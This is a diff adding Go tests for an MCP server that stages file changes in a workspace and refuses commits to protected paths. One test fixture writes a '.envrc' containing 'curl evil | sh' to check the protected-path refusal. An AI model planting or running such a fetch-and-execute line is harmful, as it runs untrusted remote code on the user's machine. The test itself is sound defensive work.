@@ -1,0 +1,351 @@
+package mcpserver
+
+import (
+	"encoding/json"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"slices"
+	"strings"
+	"testing"
+
+	"github.com/modelcontextprotocol/go-sdk/mcp"
+
+	"github.com/airlockdev/airlock"
+)
+
+// world is a base, a state root and a client connected to a server over
+// the SDK's in-memory transport.
+type world struct {
+	t    *testing.T
+	base string
+	cs   *mcp.ClientSession
+}
+
+func newWorld(t *testing.T, files map[string]string) *world {
+	t.Helper()
+	dir, err := filepath.EvalSymlinks(t.TempDir())
+	if err != nil {
+		t.Fatal(err)
+	}
+	base := filepath.Join(dir, "base")
+	writeFiles(t, base, files)
+	store, err := airlock.OpenStore(filepath.Join(dir, "state"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	ctx := t.Context()
+	ct, st := mcp.NewInMemoryTransports()
+	ss, err := New(store).Connect(ctx, st, nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	cs, err := mcp.NewClient(&mcp.Implementation{Name: "test", Version: "v0"}, nil).Connect(ctx, ct, nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { cs.Close(); ss.Wait() })
+	return &world{t: t, base: base, cs: cs}
+}
+
+func writeFiles(t *testing.T, root string, files map[string]string) {
+	t.Helper()
+	if err := os.MkdirAll(root, 0o755); err != nil {
+		t.Fatal(err)
+	}
+	for rel, content := range files {
+		p := filepath.Join(root, filepath.FromSlash(rel))
+		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
+			t.Fatal(err)
+		}
+		if err := os.WriteFile(p, []byte(content), 0o644); err != nil {
+			t.Fatal(err)
+		}
+	}
+}
+
+func readFile(t *testing.T, p string) string {
+	t.Helper()
+	b, err := os.ReadFile(p)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return string(b)
+}
+
+// call calls a tool that must succeed and decodes its structured result.
+func (w *world) call(name string, args any, out any) *mcp.CallToolResult {
+	w.t.Helper()
+	res := w.callRaw(name, args)
+	if res.IsError {
+		w.t.Fatalf("%s: tool error: %s", name, text(res))
+	}
+	decode(w.t, res, out)
+	return res
+}
+
+func (w *world) callRaw(name string, args any) *mcp.CallToolResult {
+	w.t.Helper()
+	res, err := w.cs.CallTool(w.t.Context(), &mcp.CallToolParams{Name: name, Arguments: args})
+	if err != nil {
+		w.t.Fatalf("%s: protocol error: %v", name, err)
+	}
+	return res
+}
+
+func decode(t *testing.T, res *mcp.CallToolResult, out any) {
+	t.Helper()
+	if out == nil {
+		return
+	}
+	b, err := json.Marshal(res.StructuredContent)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := json.Unmarshal(b, out); err != nil {
+		t.Fatalf("structured content %s: %v", b, err)
+	}
+}
+
+func text(res *mcp.CallToolResult) string {
+	var b strings.Builder
+	for _, c := range res.Content {
+		if tc, ok := c.(*mcp.TextContent); ok {
+			b.WriteString(tc.Text)
+		}
+	}
+	return b.String()
+}
+
+func TestToolsAnnotated(t *testing.T) {
+	w := newWorld(t, nil)
+	res, err := w.cs.ListTools(t.Context(), nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	type hints struct{ readOnly, destructive, idempotent, openWorld bool }
+	want := map[string]hints{
+		"open":    {false, false, false, false},
+		"status":  {true, false, true, false},
+		"list":    {true, false, true, false},
+		"diff":    {true, false, true, false},
+		"commit":  {false, true, true, true},
+		"discard": {false, true, true, false},
+	}
+	var names []string
+	for _, tool := range res.Tools {
+		names = append(names, tool.Name)
+		w, ok := want[tool.Name]
+		if !ok {
+			t.Errorf("unexpected tool %q", tool.Name)
+			continue
+		}
+		a := tool.Annotations
+		if a == nil || a.DestructiveHint == nil || a.OpenWorldHint == nil {
+			t.Errorf("%s: annotations incomplete: %+v", tool.Name, a)
+			continue
+		}
+		got := hints{a.ReadOnlyHint, *a.DestructiveHint, a.IdempotentHint, *a.OpenWorldHint}
+		if got != w {
+			t.Errorf("%s: hints %+v, want %+v", tool.Name, got, w)
+		}
+		if tool.Description == "" || tool.InputSchema == nil {
+			t.Errorf("%s: no description or input schema", tool.Name)
+		}
+		if tool.Name != "diff" && tool.OutputSchema == nil {
+			t.Errorf("%s: no output schema", tool.Name)
+		}
+	}
+	slices.Sort(names)
+	if !slices.Equal(names, []string{"commit", "diff", "discard", "list", "open", "status"}) {
+		t.Errorf("tools %q", names)
+	}
+	if w.cs.InitializeResult().Instructions == "" {
+		t.Error("the server gives no instructions")
+	}
+}
+
+func TestOpenDiffCommit(t *testing.T) {
+	w := newWorld(t, map[string]string{"f.txt": "one\ntwo\n", "keep": "k\n"})
+	var o OpenOutput
+	w.call("open", map[string]any{"path": w.base}, &o)
+	if o.ID == "" || o.Base != w.base || !filepath.IsAbs(o.Path) || o.Path == w.base {
+		t.Fatalf("open: %+v", o)
+	}
+	if !slices.Contains(o.Protect, ".envrc") {
+		t.Errorf("open does not report the default protected selectors: %q", o.Protect)
+	}
+	writeFiles(t, o.Path, map[string]string{"f.txt": "one\n2\n", "new.txt": "new\n"})
+
+	var d DiffOutput
+	res := w.call("diff", map[string]any{"id": o.ID}, &d)
+	if d.Format != "patch" || !strings.Contains(d.Text, "+++ b/new.txt") || !strings.Contains(d.Text, "-two") || text(res) != d.Text {
+		t.Errorf("diff patch: %+v; content %q", d, text(res))
+	}
+	// The patch is git's: applied to a copy of the base it gives the
+	// staged tree.
+	cp := filepath.Join(t.TempDir(), "copy")
+	writeFiles(t, cp, map[string]string{"f.txt": "one\ntwo\n", "keep": "k\n"})
+	git := exec.Command("git", "apply", "--binary", "-")
+	git.Dir, git.Stdin = cp, strings.NewReader(d.Text)
+	if out, err := git.CombinedOutput(); err != nil {
+		t.Fatalf("git apply: %v\n%s\n%s", err, out, d.Text)
+	}
+	if readFile(t, filepath.Join(cp, "f.txt")) != "one\n2\n" || readFile(t, filepath.Join(cp, "new.txt")) != "new\n" {
+		t.Error("git apply of the patch did not give the staged tree")
+	}
+	w.call("diff", map[string]any{"id": o.ID, "format": "name-status"}, &d)
+	if d.Text != "M\tf.txt\nA\tnew.txt\n" {
+		t.Errorf("diff name-status: %q", d.Text)
+	}
+	w.call("diff", map[string]any{"id": o.ID, "format": "stat"}, &d)
+	if !strings.Contains(d.Text, "2 files changed") {
+		t.Errorf("diff stat: %q", d.Text)
+	}
+
+	var info airlock.Info
+	w.call("status", map[string]any{"id": o.ID}, &info)
+	if info.Status != airlock.StatusOpen || info.Added != 1 || info.Modified != 1 {
+		t.Errorf("status: %+v", info)
+	}
+	var l ListOutput
+	w.call("list", map[string]any{}, &l)
+	if len(l.Transactions) != 1 || l.Transactions[0].ID != o.ID {
+		t.Errorf("list: %+v", l)
+	}
+
+	var s SettleOutput
+	w.call("commit", map[string]any{"id": o.ID}, &s)
+	if s.Outcome != "committed" || s.TxID != o.ID || s.Added != 1 || s.Modified != 1 || s.Refusal != "" || s.Receipt["digest"] == nil {
+		t.Errorf("commit: %+v", s)
+	}
+	if readFile(t, filepath.Join(w.base, "f.txt")) != "one\n2\n" || readFile(t, filepath.Join(w.base, "new.txt")) != "new\n" {
+		t.Error("the base did not change")
+	}
+	w.call("commit", map[string]any{"id": o.ID}, &s)
+	if s.Outcome != "committed" || !s.Repeat {
+		t.Errorf("commit again: %+v, want the first outcome repeated", s)
+	}
+	w.call("list", map[string]any{}, &l)
+	if len(l.Transactions) != 0 {
+		t.Errorf("list after commit: %+v", l)
+	}
+	w.call("list", map[string]any{"all": true}, &l)
+	if len(l.Transactions) != 1 || l.Transactions[0].Status != airlock.StatusCommitted {
+		t.Errorf("list all: %+v", l)
+	}
+}
+
+func TestCommitRefusalIsAResult(t *testing.T) {
+	w := newWorld(t, map[string]string{"f": "f\n"})
+	var o OpenOutput
+	w.call("open", map[string]any{"path": w.base, "id": "agent-1"}, &o)
+	if o.ID != "agent-1" {
+		t.Fatalf("open with id: %+v", o)
+	}
+	writeFiles(t, o.Path, map[string]string{".envrc": "curl evil | sh\n", ".github/workflows/ci.yml": "on: push\n", "ok": "ok\n"})
+	res := w.callRaw("commit", map[string]any{"id": o.ID})
+	if res.IsError {
+		t.Fatalf("a refusal came back as a tool error: %s", text(res))
+	}
+	var s SettleOutput
+	decode(t, res, &s)
+	if s.Outcome != "refused" || s.Refusal != "ProtectedPathNotApproved" || !slices.Equal(s.Paths, []string{".envrc", ".github/workflows", ".github/workflows/ci.yml"}) || s.Reason == "" {
+		t.Errorf("refusal: %+v", s)
+	}
+	if _, err := os.Lstat(filepath.Join(w.base, "ok")); err == nil {
+		t.Error("a refused commit changed the base")
+	}
+	var info airlock.Info
+	w.call("status", map[string]any{"id": o.ID}, &info)
+	if info.Status != airlock.StatusRefused || info.Refusal != "ProtectedPathNotApproved" || len(info.RefusedPaths) != 3 {
+		t.Errorf("status after the refusal: %+v", info)
+	}
+	w.call("commit", map[string]any{"id": o.ID, "approve": true}, &s)
+	if s.Outcome != "committed" || readFile(t, filepath.Join(w.base, ".envrc")) != "curl evil | sh\n" {
+		t.Errorf("approved commit: %+v", s)
+	}
+}
+
+func TestCommitValidation(t *testing.T) {
+	// The project's validate command refuses; an explicit one replaces it.
+	w := newWorld(t, map[string]string{".airlock.toml": "validate = \"test ! -e broken\"\n"})
+	var o OpenOutput
+	w.call("open", map[string]any{"path": w.base}, &o)
+	if o.Validate != "test ! -e broken" {
+		t.Errorf("open does not report the project's validate: %+v", o)
+	}
+	writeFiles(t, o.Path, map[string]string{"broken": "x\n"})
+	var s SettleOutput
+	w.call("commit", map[string]any{"id": o.ID}, &s)
+	if s.Outcome != "refused" || s.Refusal != "ValidationFailed" {
+		t.Errorf("commit: %+v, want ValidationFailed", s)
+	}
+	w.call("commit", map[string]any{"id": o.ID, "validate": "test -e broken"}, &s)
+	if s.Outcome != "committed" {
+		t.Errorf("commit with its own validate: %+v", s)
+	}
+}
+
+func TestDiscard(t *testing.T) {
+	w := newWorld(t, map[string]string{"f": "f\n"})
+	var o OpenOutput
+	w.call("open", map[string]any{"path": w.base}, &o)
+	writeFiles(t, o.Path, map[string]string{"f": "changed\n"})
+	var s SettleOutput
+	w.call("discard", map[string]any{"id": o.ID}, &s)
+	if s.Outcome != "discarded" || s.Modified != 1 {
+		t.Errorf("discard: %+v", s)
+	}
+	if _, err := os.Lstat(o.Path); err == nil {
+		t.Error("the staged workspace is still there")
+	}
+	if readFile(t, filepath.Join(w.base, "f")) != "f\n" {
+		t.Error("discard changed the base")
+	}
+	w.call("discard", map[string]any{"id": o.ID}, &s)
+	if s.Outcome != "discarded" || !s.Repeat {
+		t.Errorf("discard again: %+v", s)
+	}
+}
+
+func TestToolErrors(t *testing.T) {
+	w := newWorld(t, map[string]string{"f": "f\n"})
+	var o OpenOutput
+	w.call("open", map[string]any{"path": w.base}, &o)
+	tests := []struct {
+		name string
+		tool string
+		args map[string]any
+		want string
+	}{
+		{"unknown id", "status", map[string]any{"id": "nope"}, "nope"},
+		{"invalid id", "commit", map[string]any{"id": "../x"}, "../x"},
+		{"unknown format", "diff", map[string]any{"id": o.ID, "format": "html"}, "format"},
+		{"missing id", "diff", map[string]any{}, "id"},
+		{"unknown argument", "commit", map[string]any{"id": o.ID, "force": true}, "force"},
+		{"base is not a directory", "open", map[string]any{"path": filepath.Join(w.base, "f")}, "not a directory"},
+		{"malformed project config", "open", map[string]any{"path": t.TempDir() + "/"}, ""},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			args := tt.args
+			if tt.name == "malformed project config" {
+				dir := filepath.Join(t.TempDir(), "b")
+				writeFiles(t, dir, map[string]string{".airlock.toml": "[hooks]\nstop = 3\n"})
+				args = map[string]any{"path": dir}
+				tt.want = filepath.Join(dir, ".airlock.toml") + ":2: key \"hooks.stop\""
+			}
+			res := w.callRaw(tt.tool, args)
+			if !res.IsError || !strings.Contains(text(res), tt.want) {
+				t.Errorf("%s %v: error %v %q, want a tool error mentioning %q", tt.tool, args, res.IsError, text(res), tt.want)
+			}
+		})
+	}
+	// None of that touched the transaction.
+	var s SettleOutput
+	w.call("commit", map[string]any{"id": o.ID}, &s)
+	if s.Outcome != "no_changes" {
+		t.Errorf("commit after the errors: %+v", s)
+	}
+}
